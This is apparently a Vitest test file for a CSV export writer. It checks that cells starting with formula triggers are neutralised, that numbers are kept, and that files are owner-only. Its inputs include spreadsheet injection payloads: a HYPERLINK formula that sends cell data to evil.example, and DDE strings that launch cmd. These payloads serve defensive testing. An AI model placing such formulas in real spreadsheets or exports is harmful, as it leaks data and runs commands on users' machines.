// The one CSV writer: a cell that starts with = + - @, tab or CR is neutralised with a leading apostrophe
// even when it holds a line break (papaparse's own escapeFormulae missed those), a plain number is kept,
// and the file is owner-only with a BOM. Parsed back with papaparse, as a spreadsheet would read it.
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import Papa from 'papaparse'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import * as csvModule from '../../electron/backend/core/platform/csv-writer'
import { CsvFileWriter, csvLine } from '../../electron/backend/core/platform/csv-writer'

/** What a spreadsheet would find in the cells of one line the writer produced. */
function cellsOf(line: string): string[] {
  const parsed = Papa.parse<string[]>(line, { newline: '\r\n', delimiter: ',' })
  expect(parsed.errors).toEqual([])
  return parsed.data[0] ?? []
}

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'] as const
const BREAKS = ['', '\n', '\r\n', '\r'] as const

describe('csvLine', () => {
  for (const trigger of TRIGGERS) {
    for (const lineBreak of BREAKS) {
      const cell = `${trigger}HYPERLINK("https://evil.example/?"&A1)${lineBreak}second line`
      it(`neutralises a cell starting with ${JSON.stringify(trigger)}${lineBreak ? ` holding ${JSON.stringify(lineBreak)}` : ''}`, () => {
        expect(cellsOf(csvLine(['ok', cell, 'after']))).toEqual(['ok', `'${cell}`, 'after'])
      })
    }
  }

  it('neutralises a formula that only looks numeric at first, or a number followed by more text', () => {
    for (const cell of [
      '-1+1',
      "+1-cmd|' /C calc'!A0",
      '-5\n=1+1',
      '+44 20 7946 0958',
      '-',
      '=1',
      '@SUM(1)',
    ]) {
      expect(cellsOf(csvLine([cell]))).toEqual([`'${cell}`])
    }
  })

  it('keeps plain numbers, negative ones and international phone numbers included, as they are', () => {
    for (const cell of ['-5', '-12.5', '+4915112345678', '+1', '-0.5e3', '-.5', '42']) {
      expect(csvLine([cell])).toBe(`${cell}\r\n`)
    }
  })

  it('leaves other cells alone and quotes what needs quoting', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', ' padded ', 'line\nbreak', 'x=1'])).toBe(
      'plain,"a,b","say ""hi"""," padded ","line\nbreak",x=1\r\n',
    )
  })
})

describe('CsvFileWriter', () => {
  let dir: string
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'profile-desk-csv-'))
  })
  afterEach(() => rmSync(dir, { recursive: true, force: true }))

  it('writes a BOM and neutralised rows into an owner-only file in an owner-only folder', () => {
    const path = join(dir, 'exports', 'rows.csv')
    const writer = new CsvFileWriter(path)
    writer.writeRow(['identity', 'note'])
    writer.writeRow(['u1', '=cmd|" /C calc"!A0\nsecond'])
    writer.writeRow(['u2', '-42'])
    writer.close()
    expect(writer.rows).toBe(3)
    const text = readFileSync(path, 'utf8')
    expect(text.startsWith('\uFEFF')).toBe(true)
    const parsed = Papa.parse<string[]>(text.slice(1), { newline: '\r\n', skipEmptyLines: true })
    expect(parsed.data).toEqual([
      ['identity', 'note'],
      ['u1', `'=cmd|" /C calc"!A0\nsecond`],
      ['u2', '-42'],
    ])
    if (process.platform !== 'win32') {
      expect(statSync(path).mode & 0o777).toBe(0o600)
      expect(statSync(join(dir, 'exports')).mode & 0o777).toBe(0o700)
    }
  })

  it('flushes large outputs in blocks and refuses rows after close', () => {
    const path = join(dir, 'big.csv')
    const writer = new CsvFileWriter(path)
    const long = 'x'.repeat(1000)
    for (let i = 0; i < 600; i++) writer.writeRow([String(i), long])
    // More than the buffer holds has reached the file before close.
    expect(statSync(path).size).toBeGreaterThan(256 * 1024)
    writer.close()
    expect(readFileSync(path, 'utf8').split('\r\n')).toHaveLength(601)
    expect(() => writer.writeRow(['late'])).toThrow(/closed/)
  })
})

describe('csvLines (pages of an export)', () => {
  it('writes every row exactly as papaparse with the formula guard would (random cells)', () => {
    const pieces = [
      'a',
      'Zoë',
      ' ',
      ',',
      '"',
      '\n',
      '\r',
      '=',
      '+',
      '-',
      '@',
      '\t',
      '1',
      '.',
      '+4915112345678',
      '-2.5',
      'x y',
      "'",
    ]
    let seed = 12
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31
    const rows: string[][] = []
    for (let r = 0; r < 3000; r++) {
      const row: string[] = []
      for (let c = 0; c < 4; c++) {
        let cell = ''
        const length = Math.floor(next() * 4)
        for (let i = 0; i < length; i++) cell += pieces[Math.floor(next() * pieces.length)]
        row.push(cell)
      }
      rows.push(row)
    }
    const { csvLines } = csvModule
    expect(csvLines(rows)).toBe(rows.map((row) => csvLine(row)).join(''))
  })
})
